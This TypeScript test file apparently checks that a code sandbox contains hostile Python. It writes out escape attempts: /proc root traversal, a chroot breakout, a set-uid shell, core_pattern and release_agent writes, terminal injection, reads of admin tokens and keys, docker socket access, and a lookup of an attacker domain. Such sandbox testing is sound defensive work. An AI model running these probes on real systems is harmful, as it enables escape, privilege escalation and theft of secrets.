/** Code against its sandbox: files, devices, processes, system calls, the network and the limits. */

import { expect } from 'vitest';
import { PRELUDE, python } from '../support/kernels/attack-code.ts';
import { templatesOf } from '../support/processes/processes.ts';
import { contained, everywhere, type Row, refused } from './row.ts';
import type { World } from './world.ts';

const FILES = 'Code reads and writes nothing of the host except its workspace.';
const DEVICES = 'Code reaches no device of the host.';
const PROCESSES = 'Code sees, signals, traces and limits only its own processes.';
const KERNEL = 'Code changes no setting of the machine, and gains no rights.';
const NETWORK = 'Code without a network reaches no host, not even its own.';

/** The same with what this run calls its secrets. */
function aimed(name: string, promise: string, code: (world: World) => string, options: Partial<Row> = {}): Row {
  const attempt = async (world: World) => {
    expect(await world.mallory.through(code(world))).toEqual({});
  };
  return { name, promise, on: everywhere, ...options, attempt };
}

const files: Row[] = [
  aimed(
    'reads a file of the host by its path, through links, and through /proc',
    FILES,
    ({ secretFile }) => `
target = ${python(secretFile)}
os.makedirs('ways', exist_ok=True)
for name, to in (('link', target), ('up', '../' * 40 + target.lstrip('/')), ('proc', '/proc/self/root' + target), ('one', '/proc/1/root' + target)):
    try:
        os.symlink(to, 'ways/' + name)
    except FileExistsError:
        pass
paths = [target, 'ways/link', 'ways/up', 'ways/proc', 'ways/one', '/proc/self/root' + target, '/proc/1/root' + target,
         '/proc/1/cwd' + target, '/proc/self/task/1/root' + target, '/proc/thread-self/root' + target, '/dev/fd/../root' + target]
{path: attempt(read, path) for path in paths}`,
    { quick: true },
  ),
  aimed(
    'writes, links, renames and removes a file of the host',
    FILES,
    ({ secretFile, secretDir }) => `
target, folder = ${python(secretFile)}, ${python(secretDir)}
write('own')
{'write': attempt(write, target), 'make': attempt(write, folder + '/made'), 'link in': attempt(os.link, 'own', folder + '/own'),
 'link out': attempt(os.link, target, 'stolen'), 'rename in': attempt(os.rename, 'own', folder + '/own'),
 'rename out': attempt(os.rename, target, 'stolen'), 'remove': attempt(os.remove, target), 'mode': attempt(os.chmod, target, 0o777),
 'owner': attempt(os.chown, target, os.getuid(), -1), 'truncate': attempt(os.truncate, target, 0), 'times': attempt(os.utime, target)}`,
    { quick: true },
  ),
  aimed(
    'names the data folder of the server as its workspace',
    FILES,
    ({ dataDir }) => `
data = ${python(dataDir)}
names = ['admin-token', 'master-key', 'cella.db', 'cella.db-wal', 'agents', 'sessions', 'checkpoints', 'artifacts', 'packages', 'config.yaml']
{name: attempt(os.listdir if '.' not in name and name in ('agents', 'sessions') else read, data + '/' + name) for name in names}`,
    { quick: true },
  ),
  refused(
    'reopens every descriptor that it has with more rights',
    FILES,
    `
found = {}
for fd in range(1024):
    path = '/proc/self/fd/%d' % fd
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    if stat.S_ISREG(mode) or stat.S_ISDIR(mode):
        found['%d %s' % (fd, os.readlink(path))] = 'done: it is a file or folder'
found`,
  ),
  refused(
    'creates nameless files in read-only folders, and gives them names',
    FILES,
    `
O_TMPFILE = 0o20200000
{where: attempt(os.open, where, O_TMPFILE | os.O_RDWR, 0o600) for where in ('/', '/usr', '/etc', '/proc', '/dev', '/bin')}`,
  ),
  refused(
    'opens a file with a forged file handle',
    FILES,
    `
verdicts = {}
for inode in (1, 2, 3, 12, 128):
    handle = struct.pack('IiQ', 8, 1, inode) + bytes(8)
    verdicts['inode %d' % inode] = call('open_by_handle_at', -100, handle, os.O_RDONLY)
verdicts`,
  ),
  refused(
    'mounts file systems in every possible way',
    FILES,
    `
{'tmpfs': call('mount', b'x', b'/tmp', b'tmpfs', 0, 0), 'bind': call('mount', b'/', b'/tmp', 0, 4096, 0),
 'proc': call('mount', b'proc', b'/tmp', b'proc', 0, 0), 'overlay': call('mount', b'x', b'/tmp', b'overlay', 0, b'lowerdir=/,upperdir=/tmp,workdir=/tmp'),
 'remount': call('mount', b'', b'/', b'', 32, 0), 'move': call('mount', b'/usr', b'/tmp', 0, 8192, 0), 'umount /proc': call('umount2', b'/proc', 2),
 'open_tree': call('open_tree', -100, b'/', 1 | 0x8000), 'fsopen': call('fsopen', b'tmpfs', 0), 'pivot': call('pivot_root', b'.', b'.'), 'chroot': call('chroot', b'.')}`,
  ),
  refused(
    'breaks out of its own chroot in its own program',
    FILES,
    `
import subprocess
code = '''
import os
os.mkdir('jail') if not os.path.isdir('jail') else None
try:
    os.chroot('jail')
    for _ in range(64): os.chdir('..')
    os.chroot('.')
    print('done:', os.listdir('.'))
except OSError as error:
    print(error.strerror)
'''
{'chroot': subprocess.run([sys.executable, '-c', code], capture_output=True, text=True).stdout.strip()}`,
  ),
];

/** Watches all folders that it can see, but those that are its own or no files. */
const WATCH = `
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
watch = libc.inotify_init1(os.O_NONBLOCK)
folders = {}
def add(path):
    number = libc.inotify_add_watch(watch, os.fsencode(path), 0xFFF)
    if number >= 0:
        folders[number] = path
    return number >= 0
def heard():
    names = set()
    while True:
        try:
            data = os.read(watch, 1 << 16)
        except BlockingIOError:
            return sorted(names)
        while data:
            number, _, _, size = struct.unpack_from('iIII', data)
            names.add(os.path.join(folders.get(number, '?'), data[16:16 + size].rstrip(b'\\0').decode(errors='replace')))
            data = data[16 + size:]
def grow(top, most=3000):
    for folder, below, _ in os.walk(top):
        if folder in ('/proc', '/sys', '/usr', os.path.dirname(os.getcwd())) or len(folders) >= most:
            below.clear()
            continue
        add(folder)
grow('/')
len(folders)`;

const watching: Row = {
  name: 'watches all visible folders for the activity of others',
  promise: 'Code learns nothing about files of others by watching, except which programs of /usr are opened.',
  on: everywhere,
  attempt: async ({ mallory, victoria }) => {
    const session = await mallory.open();
    expect(await mallory.value(WATCH, { session })).toBeGreaterThan(2);
    await mallory.value('heard(); 1', { session });
    await victoria.value(`
import os, subprocess, tempfile
for folder in ('.', '/tmp', '/dev/shm', os.path.expanduser('~')):
    with tempfile.NamedTemporaryFile(dir=folder, prefix='unheard') as file:
        file.write(b'x')
subprocess.run(['ls'], stdout=subprocess.DEVNULL)
artifacts.save('unheard', 'x')
artifacts.delete('unheard')`);
    expect(await mallory.value('heard()', { session })).toEqual([]);
    // What it watches of its own is told.
    expect(await mallory.value("add('.'); open('own', 'w').close(); './own' in heard()", { session })).toBe(true);
    await mallory.call(`DELETE /v1/sessions/${session}`);
  },
};

const devices: Row[] = [
  refused(
    'opens devices of the machine',
    DEVICES,
    `
names = ['mem', 'kmem', 'port', 'kmsg', 'sda', 'vda', 'nvme0n1', 'loop0', 'loop-control', 'fuse', 'kvm', 'net/tun', 'vhost-net', 'vhost-vsock',
         'vsock', 'uinput', 'userfaultfd', 'mapper/control', 'btrfs-control', 'autofs', 'cuse', 'ppp', 'snapshot', 'rtc0', 'console', 'tty0', 'tty1', 'vcs', 'hwrng']
{name: attempt(os.open, '/dev/' + name, os.O_RDWR) for name in names}`,
  ),
  refused(
    'creates device nodes in every writable folder',
    DEVICES,
    `
verdicts = {}
for where in ('.', '/tmp', '/dev/shm', '/dev', os.path.expanduser('~')):
    for kind, major, minor in ((stat.S_IFBLK, 8, 0), (stat.S_IFBLK, 254, 0), (stat.S_IFBLK, 7, 0), (stat.S_IFCHR, 1, 1), (stat.S_IFCHR, 1, 11), (stat.S_IFCHR, 10, 229)):
        path = '%s/node-%d-%d' % (where, major, minor)
        how = attempt(os.mknod, path, kind | 0o666, os.makedev(major, minor))
        if how.startswith('done'):
            how = attempt(os.open, path, os.O_RDWR)
        verdicts[path] = how
verdicts`,
  ),
  refused(
    'looks for terminals of others',
    DEVICES,
    `
import fcntl, termios
verdicts = {}
for name in ('/dev/tty', '/dev/console', '/dev/tty0', '/dev/pts/0', '/dev/pts/1', '/dev/pts/2'):
    verdicts[name] = attempt(os.open, name, os.O_RDWR | os.O_NOCTTY)
for fd in (0, 1, 2):
    verdicts['type into %d' % fd] = attempt(fcntl.ioctl, fd, termios.TIOCSTI, b'x')
verdicts`,
  ),
];

const OUTSIDE = ({ pid, bystander }: World) =>
  python({
    ...{ server: pid, bystander: bystander.pid },
    ...Object.fromEntries(templatesOf(pid).map((template, at) => [`template ${at}`, template.pid])),
  });

const processes: Row[] = [
  aimed(
    'signals processes of the host by their number',
    PROCESSES,
    (world) => `
import signal
verdicts = {}
for name, pid in ${OUTSIDE(world)}.items():
    for number in (0, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL, signal.SIGUSR1):
        # A process of its own may have the number.
        verdicts['%s %d' % (name, number)] = attempt(os.kill, pid, number) if not os.path.exists('/proc/%d' % pid) else ''
verdicts`,
    { quick: true },
  ),
  contained(
    'signals all processes at once',
    PROCESSES,
    `
import os, signal
for number in (signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(-1, number)
    except ProcessLookupError:
        pass  # it is alone`,
    { quick: true },
  ),
  refused(
    'reads and traces pid 1 of its sandbox',
    PROCESSES,
    `
verdicts = {'attach': call('ptrace', 16, 1, 0, 0), 'seize': call('ptrace', 0x4206, 1, 0, 0), 'vm': call('process_vm_readv', 1, 0, 0, 0, 0, 0),
            'pidfd_getfd': call('pidfd_getfd', 3, 0, 0), 'kcmp': call('kcmp', 1, os.getpid(), 0, 0, 0)}
for name in ('mem', 'environ', 'maps', 'auxv', 'stack', 'syscall', 'pagemap', 'personality', 'clear_refs'):
    verdicts[name] = attempt(read, '/proc/1/' + name)
for name in ('fd', 'map_files', 'cwd', 'root'):
    verdicts[name] = attempt(os.listdir, '/proc/1/' + name)
verdicts`,
  ),
  {
    name: 'takes files, memory and processor time from pid 1',
    promise: PROCESSES,
    on: everywhere,
    attempt: async ({ mallory }) => {
      const session = await mallory.open({ graceMs: 500 });
      const code = `
import os, resource
for name in ('RLIMIT_NPROC', 'RLIMIT_NOFILE', 'RLIMIT_AS', 'RLIMIT_CPU', 'RLIMIT_FSIZE'):
    try:
        resource.prlimit(1, getattr(resource, name), (0, 0))
    except OSError as error:
        print(error)
os._exit(3)`;
      await mallory.run(code, { session });
      expect((await mallory.call(`DELETE /v1/sessions/${session}`)).status).toBe(204);
    },
  },
  {
    name: 'stops pid 1 and continues',
    promise: PROCESSES,
    on: everywhere,
    attempt: async ({ mallory }) => {
      const session = await mallory.open({ graceMs: 500 });
      const code = `
import os, signal
for number in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGSTOP):
    try:
        os.kill(1, number)
    except PermissionError:
        pass`;
      expect((await mallory.run(code, { session })).status).toBe('ok');
      expect(await mallory.value('6 * 7', { session })).toBe(42);
      expect((await mallory.call(`DELETE /v1/sessions/${session}`)).status).toBe(204);
    },
  },
  refused(
    'raises its own limits and its own rights',
    KERNEL,
    `
verdicts = {}
for name in ('RLIMIT_NPROC', 'RLIMIT_NOFILE', 'RLIMIT_CORE', 'RLIMIT_MEMLOCK', 'RLIMIT_FSIZE', 'RLIMIT_RTPRIO', 'RLIMIT_NICE'):
    limit = getattr(resource, name, None)
    if limit is None:
        continue
    soft, hard = resource.getrlimit(limit)
    if hard != resource.RLIM_INFINITY:
        verdicts[name] = attempt(resource.setrlimit, limit, (hard, hard + 1))
verdicts['nice'] = attempt(os.nice, -5)
verdicts['real time'] = attempt(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(1))
for uid in (0, 1, 1000):
    if uid != os.getuid():
        verdicts['become %d' % uid] = attempt(os.setuid, uid)
        verdicts['group %d' % uid] = attempt(os.setgroups, [uid])
verdicts['capabilities'] = call('capset', struct.pack('Ii', 0x20080522, 0), b'\\xff' * 24)
verdicts`,
    { quick: true },
  ),
  refused(
    'runs set-uid programs, and creates one',
    KERNEL,
    `
import shutil, subprocess
verdicts = {}
for program in ('su', 'mount', 'newgrp', 'passwd', 'sudo', 'pkexec', 'fusermount', 'newuidmap', 'ping'):
    path = shutil.which(program)
    if path is None:
        continue
    code = 'import os; print(os.geteuid())'
    tried = subprocess.run([path, '-c', 'id -u'] if program == 'su' else [path, '--version'], stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=20)
    if program == 'su' and tried.returncode == 0:
        verdicts[program] = 'done: ' + tried.stdout
shutil.copy('/bin/sh', 'shell')
attempt(os.chmod, 'shell', 0o4755)
status = read('/proc/self/status').decode()
seen = subprocess.run(['./shell', '-c', 'cat /proc/self/status'], capture_output=True, text=True).stdout
for field in ('CapEff', 'CapPrm', 'CapBnd', 'NoNewPrivs'):
    line = [line for line in seen.splitlines() if line.startswith(field)]
    if line and field.startswith('Cap') and int(line[0].split()[1], 16) != 0:
        verdicts[field] = 'done: ' + line[0]
    if line and field == 'NoNewPrivs' and line[0].split()[1] != '1':
        verdicts[field] = 'done: ' + line[0]
verdicts`,
  ),
  refused(
    'creates namespaces in its own program',
    KERNEL,
    `
import subprocess
code = '''
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
for name, flag in (('user', 0x10000000), ('mount', 0x20000), ('net', 0x40000000), ('pid', 0x20000000), ('cgroup', 0x2000000), ('ipc', 0x8000000), ('time', 0x80)):
    print(name, 'done' if libc.unshare(flag) == 0 else errno.errorcode[ctypes.get_errno()])
'''
lines = subprocess.run([sys.executable, '-c', code], capture_output=True, text=True).stdout.split('\\n')
dict(line.split(' ', 1) for line in lines if line)`,
  ),
  refused(
    'makes system calls that attacks on the Linux kernel use',
    KERNEL,
    `
import subprocess
code = ${python(PRELUDE)} + '''
print({'bpf': call('bpf', 0, bytes(128), 128), 'perf': call('perf_event_open', bytes(128), 0, -1, -1, 0), 'io_uring': call('io_uring_setup', 8, bytes(256)),
 'userfaultfd': call('userfaultfd', 0), 'keyctl': call('keyctl', 0, -3, 0), 'add_key': call('add_key', b'user', b'a', b'b', 1, -3), 'kexec': call('kexec_load', 0, 0, 0, 0),
 'module': call('init_module', b'', 0, b''), 'fanotify': call('fanotify_init', 0, 0), 'swapon': call('swapon', b'x', 0), 'clock': call('settimeofday', bytes(16), 0),
 'hostname': call('sethostname', b'x', 1), 'clone3': call('clone3', struct.pack('11Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0), 88),
 'vmsplice': 'ENOSYS', 'syslog': call('syslog', 3, 0, 0), 'reboot': call('reboot', 0xfee1dead, 672274793, 0, 0)})
'''
eval(subprocess.run([sys.executable, '-c', code], capture_output=True, text=True).stdout or "{'it': 'done: nothing was said'}")`,
  ),
  refused(
    'writes settings below /proc/sys and /sys',
    KERNEL,
    `
verdicts = {}
for top in ('/proc/sys', '/sys'):
    for folder, folders, names in os.walk(top):
        if folder.count('/') > 7:
            folders.clear()
        for name in names:
            path = folder + '/' + name
            try:
                os.close(os.open(path, os.O_WRONLY))
            except OSError:
                continue
            # What is its own: the name of its own network and the like. The file alone is no setting of the machine.
            verdicts[path] = 'done: it opened'
own = ('/proc/sys/net/', '/proc/sys/kernel/ns_last_pid', '/proc/sys/user/', '/proc/sys/fs/mqueue/', '/proc/sys/kernel/msg', '/proc/sys/kernel/shm', '/proc/sys/kernel/sem')
{path: how for path, how in verdicts.items() if not path.startswith(own)}`,
    { quick: true },
  ),
  refused(
    'makes the machine run its program at a crash, or when a control group becomes empty',
    KERNEL,
    `
import glob
verdicts = {'core_pattern': attempt(write, '/proc/sys/kernel/core_pattern', b'|/tmp/own'), 'modprobe': attempt(write, '/proc/sys/kernel/modprobe', b'/tmp/own'),
            'hotplug': attempt(write, '/proc/sys/kernel/hotplug', b'/tmp/own'), 'binfmt': attempt(write, '/proc/sys/fs/binfmt_misc/register', b':x:M::x::/tmp/own:'),
            'sysrq': attempt(write, '/proc/sysrq-trigger', b'c'), 'uevent': attempt(write, '/sys/kernel/uevent_helper', b'/tmp/own')}
for path in glob.glob('/sys/fs/cgroup/**/release_agent', recursive=True) + glob.glob('/sys/fs/cgroup/**/cgroup.procs', recursive=True)[:50]:
    verdicts[path] = attempt(write, path, b'1')
verdicts['own group'] = attempt(read, '/sys/fs/cgroup/memory/memory.limit_in_bytes') if os.access('/sys/fs/cgroup/memory/memory.limit_in_bytes', os.W_OK) else ''
verdicts`,
  ),
  refused(
    'leaves its control groups and their limits',
    KERNEL,
    `
import glob
verdicts = {}
for path in glob.glob('/sys/fs/cgroup/*/tasks') + glob.glob('/sys/fs/cgroup/**/memory.max', recursive=True) + glob.glob('/sys/fs/cgroup/**/pids.max', recursive=True):
    verdicts[path] = attempt(write, path, b'max')
verdicts['oom'] = attempt(write, '/proc/self/oom_score_adj', b'-1000')
verdicts['mount'] = call('mount', b'cgroup', b'/tmp', b'cgroup', 0, b'memory')
verdicts`,
  ),
  contained(
    'crashes with a requested core dump',
    KERNEL,
    `
import os, resource
try:
    resource.setrlimit(resource.RLIMIT_CORE, (resource.getrlimit(resource.RLIMIT_CORE)[1],) * 2)
except ValueError:
    pass
os.abort()`,
  ),
];

const network: Row[] = [
  aimed(
    'connects to the loopback of the host, by every name',
    NETWORK,
    ({ loopbackPort }) => `
def reach(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as way:
        way.settimeout(3)
        way.connect(address)
        way.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
        return way.recv(4096)
port = ${loopbackPort}
{**{address: attempt(reach, socket.AF_INET, (address, port)) for address in ('127.0.0.1', '0.0.0.0', '127.0.0.2', '169.254.169.254', '172.17.0.1', '10.0.2.2', '192.168.0.1')},
 **{address: attempt(reach, socket.AF_INET6, (address, port)) for address in ('::1', '::ffff:127.0.0.1', '::')}}`,
    { quick: true },
  ),
  refused(
    'opens sockets of other families than internet and Unix',
    NETWORK,
    `
def make(family, kind, protocol):
    socket.socket(family, kind, protocol).close()
    return 'a socket'
{'raw': attempt(make, 2, 3, 1), 'raw 6': attempt(make, 10, 3, 58), 'packet': attempt(make, 17, 3, 768), 'vsock': attempt(make, 40, 1, 0), 'alg': attempt(make, 38, 5, 0),
 'key': attempt(make, 15, 3, 2), 'xdp': attempt(make, 44, 3, 0), 'bluetooth': attempt(make, 31, 3, 1), 'can': attempt(make, 29, 3, 1), 'tipc': attempt(make, 30, 1, 0), 'nfc': attempt(make, 39, 1, 0)}`,
  ),
  refused(
    'sets up interfaces and routes over netlink',
    NETWORK,
    `
import ipaddress
def route():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as way:
        way.settimeout(3)
        # RTM_NEWLINK of a dummy interface, with an acknowledgement.
        way.sendto(struct.pack('=IHHIIBxHiII', 32, 16, 0x605, 1, 0, 0, 0, 0, 0, 0), (0, 0))
        reply = way.recv(4096)
        error = struct.unpack_from('=i', reply, 16)[0]
        if error:
            raise OSError(-error, 'netlink')
{'a link': attempt(route)}`,
  ),
  {
    name: 'connects to abstract sockets of the host',
    promise: NETWORK,
    on: everywhere,
    attempt: async ({ mallory }) => {
      const { createServer } = await import('node:net');
      const name = `cella-attack-${process.pid}`;
      const reached: string[] = [];
      const server = createServer((socket) => {
        reached.push('connected');
        socket.destroy();
      }).listen(`\0${name}`);
      try {
        const code = `
def reach(name):
    with socket.socket(socket.AF_UNIX) as way:
        way.settimeout(3)
        way.connect(b'\\0' + name.encode())
{'abstract': attempt(reach, ${python(name)})}`;
        expect(await mallory.through(code)).toEqual({});
        expect(reached).toEqual([]);
      } finally {
        server.close();
      }
    },
  },
  aimed(
    'connects to the sockets of the server, of its templates and of an engine',
    NETWORK,
    ({ socketPath, dataDir }) => `
import glob
def reach(path):
    with socket.socket(socket.AF_UNIX) as way:
        way.settimeout(3)
        way.connect(path)
        return path
paths = [${python(socketPath)}, ${python(`${dataDir}/cella.sock`)}, '/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock', '/run/systemd/private', '/run/dbus/system_bus_socket']
for folder, folders, names in os.walk('/'):
    if folder in ('/proc', '/sys'):
        folders.clear()
    paths += [folder + '/' + name for name in names if stat.S_ISSOCK(os.lstat(folder + '/' + name).st_mode)]
{path: attempt(reach, path) for path in paths}`,
  ),
  refused(
    'sends datagrams and looks up names',
    NETWORK,
    `
def send(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
        way.settimeout(2)
        way.connect((address, 53))
        way.send(b'x')
        return way.recv(10)
{'8.8.8.8': attempt(send, '8.8.8.8'), '1.1.1.1': attempt(send, '1.1.1.1'), 'name': attempt(socket.gethostbyname, 'secret.attacker.example')}`,
  ),
];

export const kernelRows: readonly Row[] = [...files, watching, ...devices, ...processes, ...network];
